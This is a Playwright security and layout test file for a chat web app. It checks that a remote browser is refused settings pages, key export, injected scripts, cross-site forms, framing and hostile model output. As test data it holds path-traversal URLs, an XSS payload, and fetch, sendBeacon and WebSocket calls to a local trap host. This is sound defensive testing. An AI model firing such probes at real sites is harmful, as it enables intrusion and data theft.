"""What a browser on another device, its pages, other sites and hostile answers cannot reach; and how it all looks."""

from __future__ import annotations

import re

from playwright.sync_api import Dialog, Page, Request, expect

from tests.browser.conftest import picture, send
from tests.browser.hostile import BLOCKS, HTMX, LINKS, TAGS, Trap, cut_up, joined
from tests.browser.remote.people import OtherSite
from tests.browser.remote.whole.way import CHAT, Way, complete, document, inside, say, shown
from tests.browser.test_hostile import ALLOWED, INSPECT
from tests.browser.test_layout import AXE, LOOKS, SIZES, WIDE
from tests.relay.proof.computers import MAC, until
from tests.upstream import Reply

#: Addresses of a Mac's own Lerix, and ways to write them, that no browser on another device gets anything from.
CLOSED = (
    "/settings/",
    "/settings/general/",
    "/settings/connections/",
    "/settings/connections/codex/",
    "/settings/connections/codex/models/",
    "/settings/connections/codex/models/switch/",
    "/settings/connections/codex/sign-out/",
    "/settings/connections/openai/",
    "/settings/relay/switch/",
    "/settings/account/",
    "/settings/account/devices/",
    "/settings/account/sign-out/",
    "/account/",
    "/admin/",
    "/admin/login/",
    "/static/../settings/",
    "/chats/../settings/",
    "/chats/..%2fsettings/",
    "/%73ettings/",
    "/settings",
    "/?token=guess&next=/settings/",
    "/relay/1/link",
    "/api/1/info",
    "/frame/",
    "/app/",
)
#: What the frame gets when it asks for them: status, or "failed".
ASK = """async (paths) => {
  const got = {};
  for (const path of paths) {
    for (const method of ["GET", "POST"]) {
      const options = method === "POST" ? {method, body: new URLSearchParams({enabled: "on"})} : {method};
      const answer = await fetch(path, options).then((each) => each, () => null);
      got[`${method} ${path}`] = answer ? `${answer.status} ${new URL(answer.url).pathname}` : "failed";
      await answer?.text();
      await new Promise((go) => setTimeout(go, 15)); // sixty at once end the session
    }
  }
  return got;
}"""
#: Every key that this browser keeps anywhere, and what comes of having it out in every form.
EXPORT = """async () => {
  const keys = [];
  const walk = (value) => {
    if (value instanceof CryptoKey) keys.push(value);
    else if (value && typeof value === "object" && !ArrayBuffer.isView(value)) Object.values(value).forEach(walk);
  };
  for (const {name} of await indexedDB.databases()) {
    const database = await new Promise((resolve) => {
      const opening = indexedDB.open(name);
      opening.onsuccess = () => resolve(opening.result);
    });
    for (const store of database.objectStoreNames) {
      const asked = database.transaction(store).objectStore(store).getAll();
      await new Promise((resolve) => { asked.onsuccess = resolve; });
      walk(asked.result);
    }
    database.close();
  }
  const secret = keys.filter(({type}) => type !== "public");
  const tried = [];
  for (const key of secret) {
    for (const form of ["raw", "pkcs8", "jwk"]) {
      tried.push(await crypto.subtle.exportKey(form, key).then(() => "exported", (error) => error.name));
    }
  }
  return {count: secret.length, extractable: secret.filter((key) => key.extractable).length, tried};
}"""
#: Another site speaks to every window that it can name.
SHOUT = """() => {
  const windows = [window.held, ...Array.from(frames)];
  for (const each of windows) {
    for (const message of ["lerix", {kind: "page", html: "<p>x", path: "/"}, {kind: "go", path: "/"}]) {
      const {port1, port2} = new MessageChannel();
      port1.onmessage = () => { document.title = "answered"; };
      try { each?.postMessage(message, "*", [port2]); } catch {}
      port1.postMessage({kind: "fetch", id: 1, method: "POST", path: "/chats/", headers: [], body: null});
    }
  }
}"""
#: What a script that got into the page around the frame could try; gives what it could do.
TRIES = """async (trap) => {
  // What Playwright evaluates may do more than a page: from here on it is the page's.
  await new Promise((go) => setTimeout(go));
  const place = document.getElementById("place");
  const loaded = (element) => new Promise((yes, no) => {
    element.onload = yes;
    element.onerror = no;
    setTimeout(no, 500);
    place.append(element);
  });
  const make = (name, given) => loaded(Object.assign(document.createElement(name), given));
  const tries = {
    evaluated: () => eval("1"),
    made: () => new Function("return 1")(),
    inline: () => make("script", {textContent: "window.ran = 1"}),
    foreign: () => make("script", {src: `http://${trap}/script.js`}),
    own: () => make("script", {src: document.querySelector("script[src]").src.replace("app/main", "vault/store")}),
    module: () => import(`http://${trap}/module.js`),
    markup: () => { place.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>"); },
    framed: () => make("iframe", {src: `http://${trap}/frame`}).then(() => Promise.reject()),
    image: () => make("img", {src: `http://${trap}/image`}),
    fetched: () => fetch(`http://${trap}/fetch`),
    socket: () => new Promise((yes, no) => {
      const socket = new WebSocket(`ws://${trap}/socket`);
      socket.onopen = yes;
      socket.onerror = no;
    }),
    beacon: () => { navigator.sendBeacon(`http://${trap}/beacon`, "x"); throw new Error("the trap tells"); },
  };
  const got = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      got.push(name);
    } catch {}
  }
  return window.ran ? [...got, "ran"] : got;
}"""
MOST_SERIOUS = """axe.run(document, {resultTypes: ["violations"], preload: false, iframes: false}).then(
  (result) => result.violations.filter(({impact}) => ["serious", "critical"].includes(impact))
    .map(({id, nodes}) => id + ": " + nodes.map(({target, failureSummary}) => target + failureSummary).join(" | ")))"""


def test_a_page_gets_404_for_everything_that_is_not_chat(way: Way, page: Page) -> None:
    got = document(page).evaluate(ASK, list(CLOSED))
    home = {"GET /?token=guess&next=/settings/"}  # a parameter is no password here: the page is that of the chat
    assert {what: said for what, said in got.items() if what in home} == dict.fromkeys(home, "200 /")
    wrong = {what: said for what, said in got.items() if what not in home and not said.startswith("404 ")}
    assert wrong == {}
    page.goto(f"{way.url}/app/settings/connections/")
    expect(page.get_by_text("Your Mac did not give this page. Nothing was lost.")).to_be_visible()
    expect(inside(page).locator("body")).to_have_count(0)
    picture(page, "whole-settings-refused")
    page.get_by_role("button", name="New chat").click()
    shown(page)
    expect(page).to_have_url(f"{way.url}/app/")


def test_the_model_menu_has_only_codex_relay_and_no_way_to_settings(page: Page) -> None:
    frame = shown(page)
    for name in ("Settings", "Connections", "Account"):
        expect(frame.get_by_role("link", name=name)).to_have_count(0)
    frame.get_by_role("button", name="Model", exact=True).click()
    menu = frame.get_by_role("menu", name="Model")
    access = menu.get_by_role("group").first.get_by_role("menuitemradio")
    expect(access).to_have_count(1)
    expect(access).to_have_accessible_name(f"Codex Relay · {MAC}")
    for gone in ("Codex auth", "OpenAI API", "API key"):
        expect(frame.get_by_text(gone)).to_have_count(0)
    picture(page, "whole-menu")


def test_no_key_that_the_browser_keeps_can_be_taken_out(page: Page) -> None:
    shown(page)
    found = page.evaluate(EXPORT)
    assert found["count"] >= 3
    assert found["extractable"] == 0
    assert len(found["tried"]) == 3 * found["count"]
    assert set(found["tried"]) <= {"InvalidAccessError", "NotSupportedError"}
    stored = document(page).evaluate(
        "() => new Promise((done) => { try { const o = indexedDB.open('lerix-vault'); o.onsuccess = () => done('open');"
        " o.onerror = () => done('refused'); } catch (error) { done(error.name); } })"
    )
    assert stored in {"SecurityError", "refused"}


def test_the_page_around_the_frame_runs_and_loads_nothing_more(way: Way, page: Page) -> None:
    shown(page)
    with Trap() as trap:
        assert page.evaluate(TRIES, trap.host) == []
        page.wait_for_timeout(300)
        # A connection that Chromium makes ahead may be all that comes of a refused frame: nothing is asked on it.
        assert trap.requests == []
    # What the policy stopped was said; nothing else was.
    stopped = re.compile("Content Security Policy|has been blocked")
    assert [each for each in way.problems if not stopped.search(each)] == []
    way.problems.clear()


def test_no_other_site_frames_posts_to_links_into_or_speaks_to_the_pages(way: Way, page: Page) -> None:
    """In the browser that is signed in, where a forged request would count."""
    say(page, "mine alone")
    complete(page)
    asked, last = way.house.asked(), way.last()
    forms = "".join(
        f'<form id="f{number}" method="post" action="{way.url}{path}"><input name="text" value="forged"></form>'
        for number, path in enumerate(("/app/", "/app/chats/", "/frame/", "/api/1/tickets", "/api/1/sessions"))
    )
    html = f"""<!doctype html><title>Elsewhere</title><iframe src="{way.url}/app/"></iframe>
      <iframe src="{way.url}/frame/"></iframe><a id="link" href="{way.url}/frame/">x</a>{forms}"""
    with OtherSite(lambda: html) as site:
        other = way.context.new_page()
        other.goto(site.url)
        other.wait_for_timeout(300)
        assert [each.locator("#place, #message, .composer").count() for each in other.frames] == [0, 0, 0]
        other.evaluate(SHOUT)
        with way.context.expect_page() as opened:
            other.evaluate("url => { window.held = window.open(url); }", f"{way.url}/app/")
        shown(opened.value)
        assert opened.value.evaluate("window.opener === null")
        other.evaluate(SHOUT)
        other.wait_for_function("window.held.closed && window.held.length === 0")
        for number in range(5):
            other.goto(site.url)
            with other.expect_navigation() as navigation:
                other.evaluate("number => document.getElementById(`f${number}`).submit()", number)
            assert navigation.value is not None
            assert navigation.value.status in {403, 405}
        other.goto(site.url)
        other.locator("#link").click()
        expect(other.get_by_text("This page is a part of another one.")).to_be_visible()
        assert other.title() != "answered"
    page.wait_for_timeout(300)
    assert way.last() == last
    assert way.house.asked() == asked
    # Chromium names each frame and form that our headers refused: that is what they are for.
    assert [each for each in way.problems if "frame-ancestors" not in each and "X-Frame-Options" not in each] == []
    way.problems.clear()


def test_a_hostile_answer_is_only_text_in_the_frame_and_no_request_leaves(way: Way, page: Page) -> None:
    happened: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        happened.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def note(request: Request) -> None:
        if not request.url.startswith((way.url, "blob:", "data:")):
            happened.append(f"request: {request.url[:200]}")

    page.on("dialog", dismiss)
    page.on("request", note)
    page.on("popup", lambda popup: happened.append(f"window: {popup.url}"))
    page.on("download", lambda file: happened.append(f"download: {file.url}"))
    with Trap() as trap:
        text = joined([*TAGS, *HTMX, *LINKS, *BLOCKS], trap.host)
        way.house.up.reply(Reply(chunks=cut_up(text, 7, 200), delay=0.0005, reasoning=text))
        document(page).evaluate("window.stillHere = true")
        say(page, joined(TAGS[:20], trap.host))
        complete(page)
        for reload in (False, True):
            if reload:
                page.reload()
                document(page).evaluate("window.stillHere = true")
            answer = inside(page).locator("article.message-assistant")
            expect(answer.locator(".body").last).to_contain_text("The end of it all.")
            frame = document(page)
            wrong = [each for each in frame.evaluate(INSPECT, ALLOWED) if each != "something that loads"]
            assert wrong == []
            # The frame's own <base> stands in the head; below it there is nothing that loads.
            assert frame.locator("body :is(iframe, object, embed, base, style, script, link, meta)").count() == 0
            page.wait_for_timeout(400)
            assert frame.evaluate("window.stillHere === true")
        expect(page.locator("iframe")).to_have_count(2)
        assert trap.silent
    assert happened == []
    send_again = shown(page).get_by_role("textbox", name="Message")
    send_again.fill("still in order")
    send_again.press("Enter")
    complete(page, 2)


def test_it_fits_and_has_no_serious_fault_at_every_size(way: Way, page: Page) -> None:
    way.house.up.reply(Reply(WIDE, reasoning="**Looking at it**\n\nFirst this, then that."))
    say(page, "Show me everything, please, in one long question that wraps on a phone.")
    complete(page)
    expect(page).to_have_url(CHAT)
    chat = page.url
    found = []
    for path, name in (("/app/", "empty"), (chat.removeprefix(way.url), "chat")):
        page.goto(way.url + path)
        shown(page)
        for size, dark in LOOKS:
            width, height = SIZES[size]
            page.set_viewport_size({"width": width, "height": height})
            page.emulate_media(color_scheme="dark" if dark else "light")
            # The page in the frame, which may be another process, hears of it a moment later.
            until(lambda: document(page).evaluate("innerWidth") == width)  # noqa: B023
            picture(page, f"whole-{name}-{size}-{'dark' if dark else 'light'}")
            found += faults(page, f"{name} {size} {'dark' if dark else 'light'}", is_axed=size != "tablet")
    assert found == []


def test_the_waiting_page_fits_and_has_no_serious_fault_at_every_size(way: Way) -> None:
    way.house.mac.terminate()
    page = way.page()
    found = []
    expect(page.get_by_role("heading", name=f"{MAC} is away")).to_be_visible()
    send(page, "Please look at this when you are back, and tell me what you think of it in a few words.")
    expect(page.get_by_role("listitem")).to_have_count(1)
    for size, dark in LOOKS:
        width, height = SIZES[size]
        page.set_viewport_size({"width": width, "height": height})
        page.emulate_media(color_scheme="dark" if dark else "light")
        picture(page, f"whole-waiting-{size}-{'dark' if dark else 'light'}")
        found += faults(page, f"waiting {size} {dark}", is_framed=False, is_axed=size != "tablet")
    page.get_by_role("button", name="Take back").click()
    expect(page.get_by_role("listitem")).to_have_count(0)
    assert found == []


def test_a_phone_is_used_by_touch(way: Way) -> None:
    phone = way.browser("Phone", viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
    page = way.page(context=phone)
    frame = shown(page)
    field = frame.get_by_role("textbox", name="Message")
    field.tap()
    field.fill("with my thumb")
    frame.get_by_role("button", name="Send", exact=True).tap()
    complete(page)
    expect(page).to_have_url(re.compile(r"/app/chats/[0-9a-f-]{36}/$"))
    frame.get_by_role("button", name="Open sidebar").tap()
    frame.get_by_role("link", name="New chat", exact=True).tap()
    expect(frame.get_by_text("What would you like to know?")).to_be_visible()
    frame.get_by_role("button", name="Open sidebar").tap()
    frame.locator("#history").get_by_role("link", name="with my thumb").first.tap()
    expect(frame.get_by_role("log")).to_contain_text("with my thumb")
    complete(page)


def faults(page: Page, name: str, *, is_framed: bool = True, is_axed: bool = True) -> list[str]:
    """What is serious by axe in the page and the Mac's page in it, neither of which may be too wide."""
    found = []
    for part in (page.main_frame, document(page)) if is_framed else (page.main_frame,):
        over = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        until(lambda: part.evaluate(over) <= 0, what=f"{name} is wider than the window")  # noqa: B023
        if is_axed:
            if not part.evaluate("'axe' in window"):
                part.evaluate(AXE)
            found += [f"{name}: {each}" for each in part.evaluate(MOST_SERIOUS)]
    return found
